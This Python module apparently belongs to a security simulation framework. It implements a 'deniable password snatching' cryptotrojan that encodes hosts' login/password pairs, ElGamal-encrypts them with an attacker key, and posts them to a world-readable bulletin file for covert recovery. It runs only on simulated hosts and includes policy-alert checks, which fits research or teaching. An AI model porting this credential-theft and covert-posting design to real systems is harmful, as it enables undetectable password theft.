"""Deniable password snatching.

A stateless trojan encodes each (login, password) pair, splits it into
field-sized chunks and ElGamal-encrypts every chunk with a fresh ephemeral
exponent. The ciphertexts go to a world-readable bulletin path on the host,
from where the author collects them passively. Only the holder of ``x`` can
read them, and the trojan keeps nothing between calls.
"""

from __future__ import annotations

import zlib
from dataclasses import dataclass

from .crypto import (ElGamalKeyPair, ElGamalPublicKey, SeededRandom, derive_seed, elgamal_decrypt,
                     elgamal_keygen)
from .crypto.rng import RandomSource
from .detect import Privilege, policy_alerts
from .errors import CredentialTooLargeForGroup, MalformedRecord, MessageOutOfRange, PolicyDenied
from .hostsim import ATTACKER, SimHost, SimNetwork
from .report import ScenarioReport

BULLETIN_PATH = "/public/bulletin.txt"


@dataclass(frozen=True)
class StolenRecord:
    c1: int
    c2: int


# -- encoding ----------------------------------------------------------------

def encode_credential(login: str, password: str) -> bytes:
    """len(login) || login || len(password) || password || checksum byte."""
    lo, pw = login.encode("ascii"), password.encode("ascii")
    if len(lo) > 255 or len(pw) > 255:
        raise ValueError("credential fields are limited to 255 bytes")
    body = bytes([len(lo)]) + lo + bytes([len(pw)]) + pw
    return body + bytes([zlib.crc32(body) & 0xFF])


def chunk_bits(p: int) -> int:
    """Payload bits per chunk; chunk values are shifted by one so they land in [1, p)."""
    return p.bit_length() - 1


def split_chunks(data: bytes, width: int) -> list[int]:
    total = 8 * len(data)
    count = -(-total // width)
    value = int.from_bytes(data, "big") << (count * width - total)
    mask = (1 << width) - 1
    return [(value >> (width * (count - 1 - i))) & mask for i in range(count)]


def _join(chunks: list[int], width: int) -> int:
    acc = 0
    for c in chunks:
        acc = (acc << width) | c
    return acc


def _declared_length(head: bytes) -> int | None:
    """Total encoded length from the two length bytes, once both are visible."""
    if not head or len(head) < head[0] + 2:
        return None
    return head[0] + head[head[0] + 1] + 3


def _decode_stream(chunks: list[int], width: int) -> list[tuple[str, str]]:
    table = []
    pos = 0
    while pos < len(chunks):
        used = 1
        while True:
            if pos + used > len(chunks):
                raise MalformedRecord("record stream ends inside a credential")
            nbits = used * width
            acc = _join(chunks[pos:pos + used], width)
            head = (acc >> (nbits % 8)).to_bytes(nbits // 8, "big")
            total = _declared_length(head)
            if total is None:
                used += 1
                continue
            needed = -(-8 * total // width)
            if used < needed:
                used = needed
                continue
            break
        spare = nbits - 8 * total
        if acc & ((1 << spare) - 1):
            raise MalformedRecord("non-zero chunk padding")
        data = (acc >> spare).to_bytes(total, "big")
        body, check = data[:-1], data[-1]
        if zlib.crc32(body) & 0xFF != check:
            raise MalformedRecord("credential checksum mismatch")
        try:
            login = body[1:1 + body[0]].decode("ascii")
            password = body[2 + body[0]:].decode("ascii")
        except UnicodeDecodeError:
            raise MalformedRecord("credential is not ASCII") from None
        table.append((login, password))
        pos += used
    return table


# -- the trojan --------------------------------------------------------------

class Cryptotrojan:
    """Carries nothing but the author's public key.

    :meth:`state` reports every attribute besides that key; it is empty
    before and after every snatch.
    """

    def __init__(self, public_key: ElGamalPublicKey):
        self.public_key = public_key

    def state(self) -> dict:
        return {k: v for k, v in vars(self).items() if k != "public_key"}

    def snatch(self, host: SimHost, rng: RandomSource, *, chunking: bool = True,
               process=None) -> list[StolenRecord]:
        if not host.credentials:
            raise ValueError(f"host {host.host_id} has no credentials")
        proc = process or host.spawn(Privilege.USER)
        pub = self.public_key
        width = chunk_bits(pub.p)
        records = []
        for login, password in host.credentials:
            encoded = encode_credential(login, password)
            if not chunking and 8 * len(encoded) > width:
                raise CredentialTooLargeForGroup(f"{8 * len(encoded)}-bit credential, {width}-bit group chunks")
            for chunk in split_chunks(encoded, width):
                c1, c2 = host.invoke(proc, "elgamal_encrypt", m=chunk + 1, pub=pub, rng=rng)
                records.append(StolenRecord(c1, c2))
        post_to_bulletin(host, records)
        return records


def snatch(host: SimHost, public_key: ElGamalPublicKey, rng: RandomSource, *, chunking: bool = True) -> list[StolenRecord]:
    return Cryptotrojan(public_key).snatch(host, rng, chunking=chunking)


def post_to_bulletin(host: SimHost, records: list[StolenRecord]) -> None:
    lines = "".join(f"{r.c1:x} {r.c2:x}\n" for r in records).encode()
    host.write_file(BULLETIN_PATH, host.files.get(BULLETIN_PATH, b"") + lines)


def read_bulletin(data: bytes) -> list[StolenRecord]:
    records = []
    for line in data.decode("ascii").splitlines():
        try:
            c1, c2 = line.split()
            records.append(StolenRecord(int(c1, 16), int(c2, 16)))
        except ValueError:
            raise MalformedRecord(f"unparseable bulletin line {line!r}") from None
    return records


def attacker_recover(records: list[StolenRecord], pair: ElGamalKeyPair) -> list[tuple[str, str]]:
    """Decrypt and decode a record stream back into the credential table."""
    width = chunk_bits(pair.p)
    chunks = []
    for r in records:
        try:
            m = elgamal_decrypt((r.c1, r.c2), pair)
        except MessageOutOfRange:
            raise MalformedRecord("ciphertext component outside the group") from None
        if not 1 <= m <= 1 << width:
            raise MalformedRecord("chunk value out of range")
        chunks.append(m - 1)
    return _decode_stream(chunks, width)


# -- scenario ----------------------------------------------------------------

@dataclass(frozen=True)
class DpsConfig:
    seed: int = 0
    group_bits: int = 64
    snatches: int = 1
    chunking: bool = True


def run_dps_scenario(network: SimNetwork, config: DpsConfig) -> ScenarioReport:
    report = ScenarioReport("dps")
    pair = elgamal_keygen(config.group_bits, SeededRandom(derive_seed(config.seed, "attacker")))
    trojan = Cryptotrojan(pair.public_key)
    report.step("setup", group_bits=pair.p.bit_length())

    for host in network.hosts:
        rng = SeededRandom(derive_seed(config.seed, f"trojan/{host.host_id}"))
        total = 0
        try:
            for _ in range(config.snatches):
                total += len(trojan.snatch(host, rng, chunking=config.chunking))
        except PolicyDenied as exc:
            report.step("snatch", host=host.host_id, blocked=str(exc))
            report.alerts.extend(a.to_dict() for a in policy_alerts(host.audit_log, host.host_id))
            report.outcome = "policy_blocked"
            continue
        report.step("snatch", host=host.host_id, credentials=len(host.credentials), records=total)
        report.add_counter("records", total)
        network.send(host.host_id, ATTACKER, host.files[BULLETIN_PATH], "bulletin")
    report.verdicts["trojan_stateless"] = trojan.state() == {}
    if report.outcome == "policy_blocked":
        report.verdicts["bulletin_untouched"] = all(BULLETIN_PATH not in h.files for h in network.hosts)
        report.finish(network)
        return report

    recovered_all = True
    admin_read_any = False
    wrong = ElGamalKeyPair.from_private(pair.p, pair.g, pair.x % (pair.p - 2) + 1)
    for msg in network.deliver_all():
        records = read_bulletin(msg.payload)
        truth = network.host(msg.sender).credentials * config.snatches
        ok = attacker_recover(records, pair) == truth
        try:
            admin_view = attacker_recover(records, wrong)
        except MalformedRecord:
            admin_view = None
        admin_read_any |= admin_view == truth
        recovered_all &= ok
        report.step("recover", host=msg.sender, records=len(records), exact=ok)

    report.verdicts["recovered"] = recovered_all
    report.verdicts["wrong_key_recovers"] = admin_read_any
    report.outcome = "success" if recovered_all and not admin_read_any else "protocol_failure"
    report.finish(network)
    return report
